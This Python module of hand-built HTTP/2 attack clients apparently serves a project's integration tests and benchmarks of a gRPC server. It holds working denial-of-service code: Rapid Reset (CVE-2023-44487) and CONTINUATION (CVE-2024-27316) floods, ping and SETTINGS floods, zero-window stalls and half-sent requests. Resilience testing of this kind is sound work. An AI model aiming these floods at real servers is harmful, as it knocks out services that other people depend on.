"""Clients that mean no good, on raw sockets: what bench/slow_clients.py measures good traffic beside, and test/integration sends to a
server that has to live on. HTTP/2 frames are made by hand: a library would not send these.
"""

from __future__ import annotations

import contextlib
import os
import selectors
import socket
import struct
import time
from collections.abc import Callable, Iterable

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, ACK, END_HEADERS = 1, 1, 4
INITIAL_WINDOW_SIZE = 4
INFER = "/inference.GRPCInferenceService/ModelInfer"


def frame(kind: int, flags: int = 0, stream: int = 0, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def setting(identifier: int, value: int) -> bytes:
    return struct.pack(">HI", identifier, value)


def header(name: str, value: str) -> bytes:
    """A literal that is not indexed, its length in one or more bytes of seven bits."""

    def text(words: bytes) -> bytes:
        if len(words) < 127:
            return bytes([len(words)]) + words
        rest, size = len(words) - 127, b"\x7f"
        while rest >= 128:
            size += bytes([rest % 128 | 128])
            rest //= 128
        return size + bytes([rest]) + words

    return b"\x00" + text(name.encode()) + text(value.encode())


def call_headers(path: str = INFER, more: Iterable[tuple[str, str]] = ()) -> bytes:
    usual = [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "h"), ("te", "trailers")]
    return b"".join(header(*each) for each in [*usual, ("content-type", "application/grpc"), *more])


def message(content: bytes, announced: int | None = None, compressed: bool = False) -> bytes:
    return bytes([compressed]) + struct.pack(">I", len(content) if announced is None else announced) + content


class Connection:
    """A socket to a server; the preface has been sent where `hello` says so."""

    def __init__(self, address: str, hello: bool = True, settings: bytes = b"", receive_buffer: int = 0):
        host, _, port = address.rpartition(":")
        self.socket = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET)
        if receive_buffer:
            self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
        self.socket.settimeout(10)
        self.socket.connect((host.strip("[]"), int(port)))
        self.received = b""
        if hello:
            self.send(PREFACE + frame(SETTINGS, payload=settings))

    def send(self, data: bytes) -> bool:
        """False where the server has closed the connection, or does not read any more."""
        try:
            self.socket.sendall(data)
            return True
        except OSError:
            return False

    def read(self, seconds: float) -> bytes:
        """What comes within so long, or until the end."""
        until, got = time.monotonic() + seconds, b""
        while (left := until - time.monotonic()) > 0:
            self.socket.settimeout(left)
            try:
                piece = self.socket.recv(65536)
            except TimeoutError:
                break
            except OSError:
                piece = b""
            if not piece:
                break
            got += piece
        self.received += got
        return got

    def is_closed_within(self, seconds: float) -> bool:
        until = time.monotonic() + seconds
        while (left := until - time.monotonic()) > 0:
            self.socket.settimeout(left)
            try:
                piece = self.socket.recv(65536)
                self.received += piece
                if not piece:
                    return True
            except TimeoutError:
                return False
            except OSError:
                return True
        return False

    def frames(self) -> list[tuple[int, int, int, bytes]]:
        """Kind, flags, stream and payload of each whole frame that has been read."""
        found, at = [], 0
        while len(self.received) >= at + 9:
            size = int.from_bytes(self.received[at : at + 3], "big")
            kind, flags, stream = self.received[at + 3], self.received[at + 4], int.from_bytes(self.received[at + 5 : at + 9], "big")
            if len(self.received) < at + 9 + size:
                break
            found.append((kind, flags, stream & 0x7FFFFFFF, self.received[at + 9 : at + 9 + size]))
            at += 9 + size
        return found

    def close(self) -> None:
        self.socket.close()

    def __enter__(self) -> Connection:
        return self

    def __exit__(self, *_: object) -> None:
        self.close()


def half_preface(address: str) -> Connection:
    connection = Connection(address, hello=False)
    connection.send(PREFACE[:11])
    return connection


def half_message(address: str, size: int = 1 << 20) -> Connection:
    """A call whose message stops in its middle."""
    connection = Connection(address)
    connection.send(frame(HEADERS, END_HEADERS, 1, call_headers()) + frame(DATA, 0, 1, message(b"\x0a\x01P" * 4000, announced=size)))
    return connection


def zero_window(address: str, request: bytes, calls: int = 100) -> Connection:
    """Whole calls whose answers are not let in: the window stays at 0."""
    connection = Connection(address, settings=setting(INITIAL_WINDOW_SIZE, 0))
    for number in range(calls):
        stream = 2 * number + 1
        connection.send(frame(HEADERS, END_HEADERS, stream, call_headers()) + frame(DATA, END_STREAM, stream, message(request)))
    return connection


def pings(first: int, count: int) -> bytes:
    return b"".join(frame(PING, payload=struct.pack(">Q", number)) for number in range(first, first + count))


def resets(first: int, count: int) -> bytes:
    """Calls that are given up as soon as they are begun; CVE-2023-44487."""
    head = call_headers()
    cancel = struct.pack(">I", 8)
    return b"".join(
        frame(HEADERS, END_HEADERS, 2 * number + 1, head) + frame(RST_STREAM, 0, 2 * number + 1, cancel)
        for number in range(first, first + count)
    )


def setting_changes(first: int, count: int) -> bytes:
    return b"".join(frame(SETTINGS, payload=setting(INITIAL_WINDOW_SIZE, 65535 + number % 2)) for number in range(first, first + count))


def continuations(first: int, count: int) -> bytes:
    """A head without an end; CVE-2024-27316 and its like."""
    start = frame(HEADERS, 0, 1, call_headers()) if first == 0 else b""
    return start + b"".join(frame(CONTINUATION, 0, 1, header(f"x-{number}", "y" * 100)) for number in range(first, first + count))


FLOODS: dict[str, Callable[[int, int], bytes]] = {
    "pings": pings,
    "resets": resets,
    "settings": setting_changes,
    "continuations": continuations,
}


class Flood:
    """Sends so many frames (or pairs) a second on one connection, and connects again where the server has closed it."""

    PORTION_SECONDS = 0.02

    def __init__(self, address: str, kind: str, a_second: float):
        self.address, self.make, self.a_second = address, FLOODS[kind], a_second
        self.connection: Connection | None = None
        self.sent = self.closed = 0
        self._next = 0.0
        self._on_this = 0

    def step(self, now: float) -> None:
        if now < self._next:
            return
        self._next = max(self._next + self.PORTION_SECONDS, now - 1)
        if self.connection is None:
            with contextlib.suppress(OSError):
                self.connection = Connection(self.address)
                self.connection.socket.settimeout(0.05)
            self._on_this = 0
            return
        count = max(1, round(self.a_second * self.PORTION_SECONDS))
        alive = self.connection.send(self.make(self._on_this, count))
        self._on_this += count
        self.sent += count
        with contextlib.suppress(BlockingIOError, TimeoutError):
            self.connection.socket.setblocking(False)
            try:
                while alive and (piece := self.connection.socket.recv(1 << 16)) != b"x":
                    alive = bool(piece)
            except (BlockingIOError, TimeoutError):
                pass
            except OSError:
                alive = False
            self.connection.socket.settimeout(0.05)
        if not alive:
            self.connection.close()
            self.connection = None
            self.closed += 1


def idle_connections(address: str, count: int) -> list[Connection]:
    """Connections that have said hello, and nothing since. Their pings are answered by answer_pings."""
    return [Connection(address) for _ in range(count)]


def answer_pings(connections: Iterable[Connection], seconds: float) -> int:
    """Reads from all of them for so long and answers pings as an honest client does; returns how many were closed."""
    selector = selectors.DefaultSelector()
    for connection in connections:
        connection.socket.setblocking(False)
        selector.register(connection.socket, selectors.EVENT_READ, connection)
    until, closed = time.monotonic() + seconds, 0
    while (left := until - time.monotonic()) > 0:
        for key, _ in selector.select(left):
            connection = key.data
            try:
                piece = connection.socket.recv(65536)
            except OSError:
                piece = b""
            if not piece:
                closed += 1
                selector.unregister(connection.socket)
                continue
            connection.received = piece
            for kind, flags, _, payload in connection.frames():
                if kind == PING and not flags & ACK:
                    connection.send(frame(PING, ACK, 0, payload))
    selector.close()
    return closed


def resident_bytes(process: int) -> int:
    with open(f"/proc/{process}/statm", encoding="ascii") as file:
        return int(file.read().split()[1]) * os.sysconf("SC_PAGE_SIZE")
